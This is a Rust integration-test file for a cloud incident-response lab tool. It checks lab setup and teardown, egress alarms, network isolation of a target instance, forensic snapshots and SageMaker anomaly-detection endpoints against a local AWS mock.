    assert_eq!(on_failure("cis-fn-containment-function").await, None);
    lambda::converge(&lambda_client, containment, &containment_arn, &refs).await.unwrap();
    assert_eq!(on_failure("cis-fn-containment-function").await, Some((Some(2), Some(topic.clone()))), "converging puts it back");

    for role in [Role::ContainmentPermission, Role::DetectorPermission, Role::ContainmentFunction, Role::DetectorFunction] {
        let kind = graph.get(role).unwrap().kind;
        lambda::delete(&lambda_client, kind, &refs[&role]).await.unwrap_or_else(|e| panic!("{role}: {e}"));
        assert!(lambda::status(&lambda_client, kind, &refs[&role]).await.is_err_and(|e| e.is_not_found()), "{role}");
    }

    // Without a package, the message says how to build one.
    let empty = tempfile::tempdir().unwrap();
    let e =
        lambda::deployment_package(FunctionCode::Containment, &[empty.path().to_path_buf()]).unwrap_err().to_string();
    assert!(e.contains("cargo xtask lambdas"), "{e}");
}

/// Stand-in packages for `up` (moto stores function code, it does not run it).
fn stand_in_packages() -> tempfile::TempDir {
    let dir = tempfile::tempdir().unwrap();
    for name in ["containment.zip", "detector.zip", "janitor.zip"] {
        let zip = cis::zip::write(&[cis::zip::Entry { name: "bootstrap", data: b"#!/bin/sh\n", mode: 0o755 }]).unwrap();
        std::fs::write(dir.path().join(name), zip).unwrap();
    }
    dir
}

#[tokio::test(flavor = "current_thread")]
async fn up_status_down_against_moto_leaves_nothing_tagged_and_a_second_down_says_so() {
    // cis meets the strict proxy; the test reads moto directly.
    let moto = Moto::strict(1);
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "e2e"][..], args].concat());
        c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
        c.output().unwrap()
    };
    let up = cis(&["up", "--detector", "lambda", "--output", "json"]);
    assert!(up.status.success(), "{}\n{}", String::from_utf8_lossy(&up.stderr), moto.diagnosis());
    let report: serde_json::Value = serde_json::from_slice(&up.stdout).unwrap();
    assert_eq!(report["resources"].as_array().unwrap().len(), 29, "{report}");

    // The ledger is tied to its account and region: `down` elsewhere would read every id
    // as gone and drop the ledger of a lab that goes on billing.
    let elsewhere = cis(&["--region", "eu-west-1", "down"]);
    assert_eq!(elsewhere.status.code(), Some(2), "{}", String::from_utf8_lossy(&elsewhere.stderr));
    let said = String::from_utf8_lossy(&elsewhere.stderr);
    assert!(said.contains("region us-east-1") && said.contains("--region us-east-1") && said.contains("nothing was changed"), "{said}");
    assert!(lab.state().join("aws/labs/e2e/ledger.json").exists(), "the ledger stays");

    let status = cis(&["status", "--output", "json"]);
    assert!(status.status.success(), "{}", String::from_utf8_lossy(&status.stderr));
    let status: serde_json::Value = serde_json::from_slice(&status.stdout).unwrap();
    let drift: Vec<&serde_json::Value> = status["resources"].as_array().unwrap().iter().filter(|r| r["drift"] == true).collect();
    assert!(drift.is_empty(), "{drift:?}");

    // Counted from outside, kind by kind.
    let counted = tagged_with(&sdk, "e2e").await;
    assert!(counted >= 15, "the lab's tagged resources are there: {counted}");

    // Containment, with the function's own code and its AWS calls, against the lab `up`
    // made: forensics (protection, kept volume, snapshot) then the isolation group.
    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/e2e/ledger.json")).unwrap().expect("a ledger");
    let id = |role: cis::lab::Role| ledger.entry(role).and_then(|e| e.id.clone()).unwrap();
    let config = cis::containment::ContainmentConfig {
        lab: "e2e".into(),
        topic_arn: id(cis::lab::Role::Topic),
        allow_all_group: None,
        isolation_group: id(cis::lab::Role::IsolationSecurityGroup),
        forensics: true,
        steps: cis::containment::IsolationSteps::NetworkAcl,
    };
    let target = id(cis::lab::Role::TargetInstance);
    let detection = cis::events::DetectionEvent {
        at: cis::clock::Timestamp(1_767_226_032_000),
        lab: "e2e".into(),
        instance_id: target.clone(),
        detector: cis::events::Detector::FeatureTails,
        window_start: cis::clock::Timestamp(1_767_225_980_000),
        window_s: 60,
        reason: "test".into(),
        evidence: None,
    };
    let api = cis::backends::aws::functions::AwsContainment::new(&sdk);
    let outcome = cis::containment::contain(&api, &config, &detection).await;
    assert_eq!(outcome.outcome, cis::events::Outcome::Isolated, "{outcome:?}");
    assert_eq!(outcome.snapshots.len(), 1, "{outcome:?}");
    let ec2 = aws_sdk_ec2::Client::new(&sdk);
    let protected = ec2
        .describe_instance_attribute()
        .instance_id(&target)
        .attribute(aws_sdk_ec2::types::InstanceAttributeName::DisableApiTermination)
        .send()
        .await
        .unwrap();
    assert_eq!(protected.disable_api_termination().and_then(|v| v.value()), Some(true));
    assert_eq!(tagged_with(&sdk, "e2e").await, counted + 1, "plus the forensic snapshot");
    // The cut: deny-all at rule 1 of the lab subnet's network ACL, both directions; no
    // group of the lab admits anything from 0.0.0.0/0.
    let subnet = id(cis::lab::Role::Subnet);
    let cut_entries = |ec2: aws_sdk_ec2::Client, subnet: String| async move {
        let acls = ec2
            .describe_network_acls()
            .filters(aws_sdk_ec2::types::Filter::builder().name("association.subnet-id").values(subnet).build())
            .send()
            .await
            .unwrap();
        let acl = acls.network_acls()[0].clone();
        acl.entries()
            .iter()
            .filter(|e| e.rule_number() == Some(1) && e.rule_action() == Some(&aws_sdk_ec2::types::RuleAction::Deny))
            .map(|e| {
                (
                    e.egress().unwrap_or_default(),
                    e.cidr_block().unwrap_or_default().to_string(),
                    e.protocol().unwrap_or_default().to_string(),
                )
            })
            .collect::<Vec<_>>()
    };
    let mut entries = cut_entries(ec2.clone(), subnet.clone()).await;
    entries.sort();
    assert_eq!(entries, [(false, "0.0.0.0/0".to_string(), "-1".to_string()), (true, "0.0.0.0/0".to_string(), "-1".to_string())]);
    let groups = ec2
        .describe_security_groups()
        .filters(aws_sdk_ec2::types::Filter::builder().name("tag:cis:lab").values("e2e").build())
        .send()
        .await
        .unwrap();
    for g in groups.security_groups() {
        for p in g.ip_permissions() {
            assert!(p.ip_ranges().iter().all(|r| r.cidr_ip() != Some("0.0.0.0/0")), "{g:?}");
        }
    }
    // release lifts the cut and restores the groups.
    // Containment reads the cut back (what makes a duplicate delivery a no-op; moto lists
    // an interface's old and new groups after a change, so the duplicate itself is shown
    // by the unit tests and the simulator, not here).
    let view = cis::containment::ContainmentApi::describe_instance(&api, &target).await.unwrap();
    assert!(view.subnet_cut && view.subnet_id == subnet, "{view:?}");
    // The detector function's memory across windows, in the lab's bucket its environment
    // names, with the function's own AWS code: none before the first batch, then saved.
    use cis::detector::DetectorApi;
    let bucket = id(cis::lab::Role::ModelData);
    let function = aws_sdk_lambda::Client::new(&sdk).get_function().function_name("cis-e2e-detector-function").send().await.unwrap();
    let env = function.configuration().and_then(|c| c.environment()).and_then(|e| e.variables()).cloned().unwrap_or_default();
    assert_eq!(env.get("CIS_MEMORY_BUCKET"), Some(&bucket), "{env:?}");
    let detector = cis::backends::aws::functions::AwsDetector::new(&sdk, Some(bucket.clone()));
    assert_eq!(detector.load_memory("eni-1-all").await.unwrap(), None, "no memory yet is none, not an error");
    detector.save_memory("eni-1-all", br#"{"interfaces":{}}"#).await.unwrap();
    assert_eq!(detector.load_memory("eni-1-all").await.unwrap().as_deref(), Some(&br#"{"interfaces":{}}"#[..]));
    let release = cis(&["release"]);
    assert!(release.status.success(), "{}", String::from_utf8_lossy(&release.stderr));
    assert!(cut_entries(ec2.clone(), subnet.clone()).await.is_empty(), "release lifts the cut");
    assert_eq!(detector.load_memory("eni-1-all").await.unwrap(), None, "release forgets what the detector remembered");

    // Down undoes what containment did for forensics: protection, kept volume, snapshot.
    let down = cis(&["down"]);
    assert!(down.status.success(), "{}\n{}", String::from_utf8_lossy(&down.stderr), moto.diagnosis());
    assert_eq!(tagged_with(&sdk, "e2e").await, 0, "nothing tagged with the lab remains");
    let again = cis(&["down"]);
    assert!(String::from_utf8_lossy(&again.stdout).contains("nothing to delete"), "{}", String::from_utf8_lossy(&again.stdout));
    // The lifecycle met each strictness, and sent nothing AWS refuses outright.
    let stats = moto.strict_stats();
    eprintln!("strict proxy: {stats:?}");
    assert_eq!(stats["duplicate_tags_refused"], 0, "{stats:?}");
    assert_eq!(stats["zone_lacks_instance_type"], 0, "the target was launched in a zone that offers its type: {stats:?}");
    // The first flow log, made while its role was fresh, was in "Access error": `up` made
    // it again, and the lab came up.
    for met in ["not_found_after_create", "role_not_assumable", "function_pending_polls", "flow_log_access_error"] {
        assert!(stats[met] > 0, "{met} was never met: {stats:?}");
    }
}

#[test]
fn lives_of_up_then_down_through_the_strict_proxy_leave_nothing_tagged() {
    // Each life: `up`, then `down`, then nothing tagged with its lab. Each worker has its
    // own moto and proxy, seeded apart (a life mostly waits on backoff, so workers overlap
    // well); the proxy's throttling is doubled so that bursts land all over both commands.
    // CI runs 8 lives; `.ci/soak` runs the 200 lives on 8 workers
    // that README quotes.
    let env = |name: &str, default: u32| std::env::var(name).ok().and_then(|n| n.parse().ok()).unwrap_or(default);
    let (lives, workers) = (env("CIS_STRICT_LIVES", 8), env("CIS_STRICT_WORKERS", 4).max(1));
    let packages = stand_in_packages();
    let stats: Vec<std::collections::BTreeMap<String, u64>> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|w| {
                let packages = packages.path();
                scope.spawn(move || {
                    let runtime = tokio::runtime::Builder::new_current_thread().enable_all().build().unwrap();
                    let moto = Moto::strict_with(7 + u64::from(w), 0.02);
                    let sdk = runtime.block_on(moto.sdk_config());
                    let lab = Lab::new();
                    for life in (1..=lives).filter(|l| l % workers == w) {
                        let name = format!("life{life:03}");
                        let cis = |args: &[&str]| {
                            let mut c =
                                lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", &name, "-q"][..], args].concat());
                            c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages);
                            c.output().unwrap()
                        };
                        let up = cis(&["up", "--detector", "lambda"]);
                        assert!(
                            up.status.success(),
                            "life {life}: up failed: {}\n{}",
                            String::from_utf8_lossy(&up.stderr),
                            moto.diagnosis()
                        );
                        let down = cis(&["down"]);
                        assert!(
                            down.status.success(),
                            "life {life}: down failed: {}\n{}",
                            String::from_utf8_lossy(&down.stderr),
                            moto.diagnosis()
                        );
                        let left = runtime.block_on(tagged_with(&sdk, &name));
                        assert_eq!(left, 0, "life {life}: resources tagged with the lab remain after down");
                    }
                    moto.strict_stats()
                })
            })
            .collect();
        handles.into_iter().map(|w| w.join().unwrap_or_else(|e| std::panic::resume_unwind(e))).collect()
    });
    let mut total = std::collections::BTreeMap::<String, u64>::new();
    for s in &stats {
        for (k, v) in s {
            *total.entry(k.clone()).or_default() += v;
        }
    }
    let figures = format!("strict proxy, {lives} lives of up then down on {workers} workers, nothing left after any: {total:?}\n");
    eprint!("{figures}");
    let _ = std::fs::write(std::path::Path::new(env!("CARGO_TARGET_TMPDIR")).join("strict-figures.txt"), figures);
    assert_eq!(total["duplicate_tags_refused"], 0, "{total:?}");
    for met in ["not_found_after_create", "role_not_assumable", "function_pending_polls", "throttle_bursts"] {
        assert!(total[met] >= u64::from(lives.min(3)), "{met} was met too seldom to show anything: {total:?}");
    }
}

#[tokio::test(flavor = "current_thread")]
async fn a_metric_filter_lab_puts_its_filter_and_calibrated_alarm_contains_on_the_alarms_event_and_goes_away() {
    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "mf"][..], args].concat());
        c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
        c.output().unwrap()
    };
    // moto 5.2.5 checks endpoint instance types against a list older than ml.g6e (the
    // default, shown by `cis plan` in analysis::up_with_llm_...): a GPU type it knows.
    let up = cis(&["up", "--detector", "metric-filter", "--warmup", "1h", "--llm", "--llm-instance-type", "ml.g4dn.2xlarge", "--output", "json"]);
    assert!(up.status.success(), "{}", String::from_utf8_lossy(&up.stderr));
    let report: serde_json::Value = serde_json::from_slice(&up.stdout).unwrap();
    assert_eq!(
        report["resources"].as_array().unwrap().len(),
        28,
        "no detector function, no subscription, no alarm while learning; the LLM's five: {report}"
    );

    // The LLM as its publishers deploy it: DJL LMI from the region's DLC registry, the
    // model by Hugging Face id, a GPU instance and a startup allowance for an 8B model.
    let sm = aws_sdk_sagemaker::Client::new(&sdk);
    let model = sm.describe_model().model_name("cis-mf-llm-model").send().await.unwrap();
    let container = model.primary_container().unwrap();
    assert_eq!(container.image(), Some("763104351884.dkr.ecr.us-east-1.amazonaws.com/djl-inference:0.33.0-lmi15.0.0-cu128"));
    assert_eq!(container.environment().and_then(|e| e.get("HF_MODEL_ID")).map(String::as_str), Some("fdtn-ai/Foundation-Sec-8B-Instruct"));
    assert!(model.execution_role_arn().unwrap().ends_with("role/cis-mf-llm-role"));
    let config = sm.describe_endpoint_config().endpoint_config_name("cis-mf-llm-endpoint-config").send().await.unwrap();
    assert_eq!(config.production_variants()[0].instance_type().map(|t| t.as_str()), Some("ml.g4dn.2xlarge"));
    sm.describe_endpoint().endpoint_name("cis-mf-llm-endpoint").send().await.unwrap();
    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/mf/ledger.json")).unwrap().expect("a ledger");
    let id = |role: cis::lab::Role| ledger.entry(role).and_then(|e| e.id.clone()).unwrap();
    let target = id(cis::lab::Role::TargetInstance);

    // The filter on the flow-log group: the lab's pattern, bytes per instance.
    let logs = aws_sdk_cloudwatchlogs::Client::new(&sdk);
    let filters = logs.describe_metric_filters().log_group_name("cis-mf-flow-logs").send().await.unwrap();
    let [filter] = filters.metric_filters() else { panic!("one metric filter: {filters:?}") };
    assert_eq!(filter.filter_name(), Some("cis-mf-egress-metric-filter"));
    assert_eq!(filter.filter_pattern(), Some(cis::metric::egress_pattern("10.42.").as_str()));
    let t = &filter.metric_transformations()[0];
    assert_eq!((t.metric_namespace(), t.metric_name(), t.metric_value()), ("cis/lab", "EgressBytes", "$bytes"));
    assert_eq!(t.dimensions().and_then(|d| d.get("InstanceId")).map(String::as_str), Some("$instance_id"));

    // Learning: no alarm, so nothing can set containment off; status says so.
    let cw = aws_sdk_cloudwatch::Client::new(&sdk);
    assert!(cw.describe_alarms().alarm_names("cis-mf-egress-alarm").send().await.unwrap().metric_alarms().is_empty());
    let status = cis(&["status"]);
    let said = String::from_utf8_lossy(&status.stdout);
    assert!(said.contains("detector: learning") && said.contains("cis arm") && said.contains("its warm-up of 1 h"), "{said}");
    // Nothing learned yet, then too little: refused, saying what it found and needs.
    let early = cis(&["arm"]);
    assert_eq!(early.status.code(), Some(2), "{}", String::from_utf8_lossy(&early.stderr));
    assert!(String::from_utf8_lossy(&early.stderr).contains("learned nothing yet"), "{}", String::from_utf8_lossy(&early.stderr));
    let (lines, busiest) = learned_traffic(&target, 2);
    put_lines(&logs, "cis-mf-flow-logs", "eni-0aa-all", &lines).await;
    let short = cis(&["arm", "--warmup", "3h"]);
    let said = String::from_utf8_lossy(&short.stderr);
    assert_eq!(short.status.code(), Some(2), "{said}");
    assert!(said.contains("learned 2.0 h") && said.contains("120 flow-log records") && said.contains("--warmup"), "{said}");
    assert!(cw.describe_alarms().alarm_names("cis-mf-egress-alarm").send().await.unwrap().metric_alarms().is_empty());

    // Armed on what the lab's own group holds: the alarm is made, its threshold the
    // busiest minute of that traffic with the margin, nothing of the simulator's.
    // The lab's own warm-up (`up --warmup 1h`) holds.
    let armed = cis(&["arm", "--output", "json"]);
    assert!(armed.status.success(), "{}", String::from_utf8_lossy(&armed.stderr));
    let armed: serde_json::Value = serde_json::from_slice(&armed.stdout).unwrap();
    assert_eq!(armed["arming"]["phase"], "armed", "{armed}");
    assert_eq!(armed["arming"]["records"], 120, "{armed}");
    assert_eq!(armed["up"]["resources"].as_array().unwrap().len(), 29, "{armed}");
    let expected = busiest * cis::training::EGRESS_MARGIN;
    assert_eq!(armed["arming"]["egress_threshold"].as_f64(), Some(expected), "{armed}");
    let alarms = cw.describe_alarms().alarm_names("cis-mf-egress-alarm").send().await.unwrap();
    let [alarm] = alarms.metric_alarms() else { panic!("one alarm: {alarms:?}") };
    assert_eq!(alarm.threshold(), Some(expected));
    let simulated = cis::training::egress_threshold(
        &cis::lab::AlarmCalibration { workload: "idle-server".into(), window_s: 60, target_fpr: None },
        &cis::sim::latency::LatencyModel::embedded(),
        &cis::scenario::workloads(),
    )
    .unwrap();
    assert_ne!(alarm.threshold(), Some(simulated), "the simulator's baseline reached AWS");
    let again = cis(&["arm", "--warmup", "1h"]);
    assert_eq!(again.status.code(), Some(2), "{}", String::from_utf8_lossy(&again.stderr));
    assert!(String::from_utf8_lossy(&again.stderr).contains("already armed"), "{}", String::from_utf8_lossy(&again.stderr));
    // The alarm: on the target's metric, M of N with missing data not breaching.
    assert_eq!((alarm.period(), alarm.evaluation_periods(), alarm.datapoints_to_alarm()), (Some(60), Some(16), Some(1)));
    assert_eq!(alarm.treat_missing_data(), Some("notBreaching"));
    assert_eq!(alarm.statistic(), Some(&aws_sdk_cloudwatch::types::Statistic::Sum));
    assert_eq!(alarm.dimensions()[0].value(), Some(target.as_str()));
    let tags = cw.list_tags_for_resource().resource_arn(alarm.alarm_arn().unwrap()).send().await.unwrap();
    assert!(tags.tags().iter().any(|t| t.key() == Some("cis:lab") && t.value() == Some("mf")), "{tags:?}");
    // The rule takes only this alarm's move into ALARM.
    let events = aws_sdk_eventbridge::Client::new(&sdk);
    let rule = events.describe_rule().name("cis-mf-detection-rule").send().await.unwrap();
    let pattern: serde_json::Value = serde_json::from_str(rule.event_pattern().unwrap()).unwrap();
    assert_eq!(pattern["source"][0], "aws.cloudwatch");
    assert_eq!(pattern["detail"]["alarmName"][0], "cis-mf-egress-alarm");
    assert_eq!(pattern["detail"]["state"]["value"][0], "ALARM");

    // The event CloudWatch sends for that move, given to the containment function's own
    // code with its AWS calls: the target is isolated.
    let metric = cis::metric::MetricKey {
        namespace: "cis/lab".into(),
        metric_name: "EgressBytes".into(),
        dimensions: [("InstanceId".to_string(), target.clone())].into(),
    };
    let rule_of_alarm = cis::lab::egress_alarm_rule(60);
    let at = cis::clock::Timestamp(1_767_226_080_000);
    let breaching = vec![(cis::clock::Timestamp(1_767_225_960_000), expected * 4.0)];
    let evaluation = cis::metric::Evaluation { state: cis::metric::AlarmState::Alarm, datapoints: breaching.clone(), breaching };
    let event = cis::metric::state_change_event(&cis::metric::StateChange {
        alarm_name: "cis-mf-egress-alarm",
        alarm_arn: alarm.alarm_arn().unwrap(),
        account: "123456789012",
        region: "us-east-1",
        metric: &metric,
        rule: &cis::metric::AlarmRule { threshold: expected, ..rule_of_alarm },
        previous: cis::metric::AlarmState::Ok,
        evaluation: &evaluation,
        at,
    });
    assert!(cis::sim::dataplane::pattern_matches(rule.event_pattern().unwrap(), &event));
    let config = cis::containment::ContainmentConfig {
        lab: "mf".into(),
        topic_arn: id(cis::lab::Role::Topic),
        allow_all_group: None,
        isolation_group: id(cis::lab::Role::IsolationSecurityGroup),
        forensics: false,
        steps: cis::containment::IsolationSteps::NetworkAcl,
    };
    let api = cis::backends::aws::functions::AwsContainment::new(&sdk);
    let outcome = cis::containment::handle(&api, &config, &event).await;
    assert_eq!(outcome.outcome, cis::events::Outcome::Isolated, "{outcome:?}");
    assert_eq!(outcome.detected_at, Some(at));

    // A run waits while the alarm is in ALARM (it would not fire again).
    use cis::cloud::Cloud as _;
    let account = cis::cloud::AccountInfo { account_id: "123456789012".into(), region: "us-east-1".into(), description: "moto".into() };
    let cloud = cis::backends::aws::cloud::AwsCloud::new(cis::backends::aws::AwsSession { sdk: sdk.clone(), account }, vec![]);
    // The ledger as arming left it: it holds the alarm.
    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/mf/ledger.json")).unwrap().expect("a ledger");
    let lab_target = cis::cloud::LabTarget {
        lab: "mf".parse().unwrap(),
        refs: ledger.entries.iter().filter_map(|e| e.id.clone().map(|i| (e.role, i))).collect(),
    };
    assert!(!cloud.alarm_firing(&lab_target).await.unwrap());
    cw.set_alarm_state()
        .alarm_name("cis-mf-egress-alarm")
        .state_value(aws_sdk_cloudwatch::types::StateValue::Alarm)
        .state_reason("test")
        .send()
        .await
        .unwrap();
    assert!(cloud.alarm_firing(&lab_target).await.unwrap());

    let down = cis(&["down"]);
    assert!(down.status.success(), "{}", String::from_utf8_lossy(&down.stderr));
    assert_eq!(tagged_with(&sdk, "mf").await, 0, "nothing tagged with the lab remains");
}

/// Live resources tagged cis:lab=LAB, by plain describe calls of every kind the lab creates.
async fn tagged_with(sdk: &aws_config::SdkConfig, lab: &str) -> usize {
    let ec2 = aws_sdk_ec2::Client::new(sdk);
    let by_lab = || aws_sdk_ec2::types::Filter::builder().name("tag:cis:lab").values(lab).build();
    let mut n = ec2.describe_vpcs().filters(by_lab()).send().await.unwrap().vpcs().len();
    n += ec2.describe_subnets().filters(by_lab()).send().await.unwrap().subnets().len();
    n += ec2.describe_internet_gateways().filters(by_lab()).send().await.unwrap().internet_gateways().len();
    n += ec2.describe_route_tables().filters(by_lab()).send().await.unwrap().route_tables().len();
    n += ec2.describe_security_groups().filters(by_lab()).send().await.unwrap().security_groups().len();
    let live = aws_sdk_ec2::types::Filter::builder()
        .name("instance-state-name")
        .values("pending")
        .values("running")
        .values("stopping")
        .values("stopped")
        .build();
    n += ec2
        .describe_instances()
        .filters(by_lab())
        .filters(live)
        .send()
        .await
        .unwrap()
        .reservations()
        .iter()
        .map(|r| r.instances().len())
        .sum::<usize>();
    n += ec2.describe_volumes().filters(by_lab()).send().await.unwrap().volumes().len();
    n += ec2.describe_snapshots().filters(by_lab()).owner_ids("self").send().await.unwrap().snapshots().len();
    n += ec2.describe_flow_logs().filter(by_lab()).send().await.unwrap().flow_logs().len();
    let iam = aws_sdk_iam::Client::new(sdk);
    let prefix = format!("cis-{lab}-");
    // Schedules carry no tags: by name.
    n += aws_sdk_scheduler::Client::new(sdk).list_schedules().name_prefix(&prefix).send().await.unwrap().schedules().len();
    n += iam.list_roles().send().await.unwrap().roles().iter().filter(|r| r.role_name().starts_with(&prefix)).count();
    n += iam
        .list_instance_profiles()
        .send()
        .await
        .unwrap()
        .instance_profiles()
        .iter()
        .filter(|p| p.instance_profile_name().starts_with(&prefix))
        .count();
    let logs = aws_sdk_cloudwatchlogs::Client::new(sdk);
    n += logs.describe_log_groups().log_group_name_prefix(&prefix).send().await.unwrap().log_groups().len();
    n += logs.describe_log_groups().log_group_name_prefix(format!("/aws/lambda/{prefix}")).send().await.unwrap().log_groups().len();
    // Metric filters go with their group, but one left on a group would still count.
    n += logs
        .describe_metric_filters()
        .send()
        .await
        .unwrap()
        .metric_filters()
        .iter()
        .filter(|f| f.filter_name().is_some_and(|x| x.starts_with(&prefix)))
        .count();
    let cw = aws_sdk_cloudwatch::Client::new(sdk);
    n += cw.describe_alarms().alarm_name_prefix(&prefix).send().await.unwrap().metric_alarms().len();
    let sns = aws_sdk_sns::Client::new(sdk);
    n += sns.list_topics().send().await.unwrap().topics().iter().filter(|t| t.topic_arn().is_some_and(|a| a.contains(&prefix))).count();
    let events = aws_sdk_eventbridge::Client::new(sdk);
    n += events.list_rules().name_prefix(&prefix).send().await.unwrap().rules().len();
    let lambda = aws_sdk_lambda::Client::new(sdk);
    n += lambda
        .list_functions()
        .send()
        .await
        .unwrap()
        .functions()
        .iter()
        .filter(|f| f.function_name().is_some_and(|x| x.starts_with(&prefix)))
        .count();
    let s3 = aws_sdk_s3::Client::from_conf(aws_sdk_s3::config::Builder::from(sdk).force_path_style(true).build());
    n += s3.list_buckets().send().await.unwrap().buckets().iter().filter(|b| b.name().is_some_and(|x| x.starts_with(&prefix))).count();
    let sm = aws_sdk_sagemaker::Client::new(sdk);
    n += sm.list_models().name_contains(&prefix).send().await.unwrap().models().len();
    n += sm.list_endpoint_configs().name_contains(&prefix).send().await.unwrap().endpoint_configs().len();
    n += sm.list_endpoints().name_contains(&prefix).send().await.unwrap().endpoints().len();
    // A finished training job's record stays (AWS has no delete and does not bill it);
    // down unties it from the lab, so a job counts while it carries the lab's tag.
    for j in sm.list_training_jobs().name_contains(&prefix).send().await.unwrap().training_job_summaries() {
        let tags = sm.list_tags().resource_arn(j.training_job_arn().unwrap()).send().await.unwrap();
        n += tags.tags().iter().filter(|t| t.key() == Some("cis:lab") && t.value() == Some(lab)).count();
    }
    n
}

#[tokio::test(flavor = "current_thread")]
async fn an_endpoint_lab_learns_then_trains_the_forest_on_its_own_traffic_calibrates_its_endpoint_and_goes_away() {
    let moto = Moto::start();
    let sdk = moto.sdk_config().await;
    let packages = stand_in_packages();
    let lab = Lab::new();
    let cis = |args: &[&str]| {
        let mut c = lab.cmd(&[&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "rcf"][..], args].concat());
        c.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path());
        c.output().unwrap()
    };
    let up = cis(&["up", "--detector", "endpoint", "--output", "json"]);
    assert!(up.status.success(), "{}", String::from_utf8_lossy(&up.stderr));

    // Learning: no forest, no endpoint; the function has neither a model nor an endpoint.
    let sm = aws_sdk_sagemaker::Client::new(&sdk);
    assert!(sm.list_training_jobs().name_contains("cis-rcf-training-job").send().await.unwrap().training_job_summaries().is_empty());
    assert!(sm.describe_endpoint().endpoint_name("cis-rcf-anomaly-endpoint").send().await.is_err());
    let lambda = aws_sdk_lambda::Client::new(&sdk);
    let env_of = || async {
        let f = lambda.get_function_configuration().function_name("cis-rcf-detector-function").send().await.unwrap();
        f.environment().and_then(|e| e.variables()).cloned().unwrap_or_default()
    };
    let learning = env_of().await;
    assert!(!learning.contains_key("CIS_ENDPOINT") && !learning.contains_key("CIS_MODEL_KEY"), "{learning:?}");

    // Two hours of the lab's own traffic in its group; moto's endpoint answers one RCF
    // score per window of it.
    let ledger = cis::ledger::Ledger::load(&lab.state().join("aws/labs/rcf/ledger.json")).unwrap().expect("a ledger");
    let target = ledger.entry(cis::lab::Role::TargetInstance).and_then(|e| e.id.clone()).unwrap();
    let (lines, _) = learned_traffic(&target, 2);
    put_lines(&aws_sdk_cloudwatchlogs::Client::new(&sdk), "cis-rcf-flow-logs", "eni-0aa-all", &lines).await;
    let format = cis::flowlog::LogFormat::parse(cis::lab::LAB_LOG_FORMAT).unwrap();
    let rows = cis::features::windows_of_lines(lines.iter().map(String::as_str), &format, 60).len();
    let scores: Vec<f64> = (0..rows).map(|i| 1.0 + (i % 5) as f64 * 0.1).collect();
    let body = serde_json::json!({"scores": scores.iter().map(|s| serde_json::json!({"score": s})).collect::<Vec<_>>()}).to_string();
    let seeded = serde_json::json!({"results": [{"Body": body, "ContentType": "application/json", "InvokedProductionVariant": "all", "CustomAttributes": ""}]});
    moto.post("/moto-api/static/sagemaker/endpoint-results", &seeded.to_string());
    // Killed right after arming's first create (the training job), before the ledger
    // recorded it: the ledger already says armed, so the rerun finishes the walk and
    // adopts the job instead of training a second one.
    let mut killed = lab.cmd(&["--cloud", "aws", "--endpoint-url", &moto.endpoint, "--lab", "rcf", "arm", "--warmup", "1h"]);
    killed.envs(moto.env()).env("CIS_LAMBDA_DIR", packages.path()).env(cis::backends::aws::cloud::CRASH_AFTER_ENV, "1");
    let killed = killed.output().unwrap();
    assert!(!killed.status.success(), "arm was to be killed after its first create");
    let armed = cis(&["arm", "--warmup", "1h"]);
    assert!(armed.status.success(), "{}", String::from_utf8_lossy(&armed.stderr));
    let jobs = sm.list_training_jobs().name_contains("cis-rcf-training-job").send().await.unwrap();
    assert_eq!(jobs.training_job_summaries().len(), 1, "one training job after the kill and the rerun: {jobs:?}");

    // The training data: the lab's own windows as CSV, in the lab's own private bucket.
    let s3 = aws_sdk_s3::Client::from_conf(aws_sdk_s3::config::Builder::from(&sdk).force_path_style(true).build());
    let bucket = "cis-rcf-model-data-123456789012";
    let csv = s3.get_object().bucket(bucket).key(cis::lab::TRAINING_KEY).send().await.unwrap().body.collect().await.unwrap().into_bytes();
    let csv = String::from_utf8(csv.to_vec()).unwrap();
    assert_eq!(csv.lines().count(), rows);
    assert!(csv.lines().all(|l| l.split(',').count() == cis::features::N_FEATURES), "{}", csv.lines().next().unwrap());
    let tags = s3.get_bucket_tagging().bucket(bucket).send().await.unwrap();
    assert!(tags.tag_set().iter().any(|t| t.key() == "cis:lab" && t.value() == "rcf"));
    let block = s3.get_public_access_block().bucket(bucket).send().await.unwrap();
    assert_eq!(block.public_access_block_configuration().and_then(|c| c.block_public_policy()), Some(true));

    // The job trains the built-in forest on it; the model serves the job's artifacts.
    let jobs = sm.list_training_jobs().name_contains("cis-rcf-training-job").send().await.unwrap();
    let job_name = jobs.training_job_summaries()[0].training_job_name().unwrap().to_string();
    let job = sm.describe_training_job().training_job_name(&job_name).send().await.unwrap();
    let spec = job.algorithm_specification().unwrap();
    assert_eq!(spec.training_image(), Some("382416733822.dkr.ecr.us-east-1.amazonaws.com/randomcutforest:1"));
    let hyper = job.hyper_parameters().unwrap();
    assert_eq!(hyper.get("feature_dim").map(String::as_str), Some(cis::features::N_FEATURES.to_string().as_str()));
    let input = &job.input_data_config()[0];
    assert_eq!(
        input.data_source().and_then(|d| d.s3_data_source()).and_then(|s| s.s3_uri()),
        Some(format!("s3://{bucket}/{}", cis::lab::TRAINING_KEY).as_str())
    );
    let model = sm.describe_model().model_name("cis-rcf-anomaly-model").send().await.unwrap();
    let artifacts = job.model_artifacts().and_then(|a| a.s3_model_artifacts()).unwrap();
    assert_eq!(model.primary_container().and_then(|c| c.model_data_url()), Some(artifacts));
    let config = sm.describe_endpoint_config().endpoint_config_name("cis-rcf-anomaly-endpoint-config").send().await.unwrap();
    assert_eq!(config.production_variants()[0].instance_type().map(|t| t.as_str()), Some("ml.c5.large"));

